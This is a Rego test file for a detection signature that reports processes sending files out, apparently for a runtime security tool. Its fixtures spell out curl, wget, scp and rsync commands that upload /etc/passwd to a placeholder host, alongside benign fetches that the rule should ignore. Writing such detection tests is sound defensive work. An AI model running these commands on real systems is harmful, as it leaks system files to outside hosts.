package signatures.file_sent_by_command_test

import rego.v2

import data.signatures.file_sent_by_command as signature

_runs(argv) := {
	"event": "sched_process_exec",
	"args": {"pathname": concat("", ["/usr/bin/", argv[0]]), "argv": argv},
	"process": {"exe": concat("", ["/usr/bin/", argv[0]]), "ancestors": []},
}

_said(argv) := {"pathname": concat("", ["/usr/bin/", argv[0]]), "argv": argv}

test_sending_is_reported if {
	every argv in [
		["curl", "-s", "-T", "/etc/passwd", "http://x/"],
		["curl", "-F", "f=@/etc/passwd", "http://x/"],
		["curl", "--data-binary", "@/etc/passwd", "http://x/"],
		["curl", "-d@/etc/passwd", "http://x/"],
		["curl", "--data=@x", "http://x"],
		["wget", "--post-file=/etc/passwd", "http://x/"],
		["scp", "/etc/passwd", "u@h:"],
		["rsync", "-a", "/etc", "h:/x"],
	] {
		signature.finding == {_said(argv)} with input as _runs(argv)
	}
}

test_fetching_is_silent if {
	every argv in [
		["curl", "-s", "http://x/"],
		["curl", "-H", "A: b@c", "http://x/"],
		["curl", "-u", "a@b:c", "http://x/"],
		["wget", "http://x/"],
		["scp", "u@h:/etc/passwd", "."],
		["rsync", "-a", "/a", "/b"],
		["tar", "@x"],
	] {
		signature.finding == set() with input as _runs(argv)
	}
}

_one := {"event": "sched_process_exec", "args": {"pathname": "/usr/bin/curl", "argv": ["curl", "-s", "-T", "/etc/passwd", "http://x/"]}, "process": {"exe": "/usr/bin/curl", "ancestors": []}}

test_missing_field_is_silent if {
	signature.finding == set() with input as object.remove(_one, ["args"])
	signature.finding == set() with input as object.remove(_one, ["event"])
}

test_exception_is_silent if {
	signature.finding == set() with input as _one
		with data.exceptions as {"TW-0205": [{"exe": "/usr/bin/curl"}]}
}
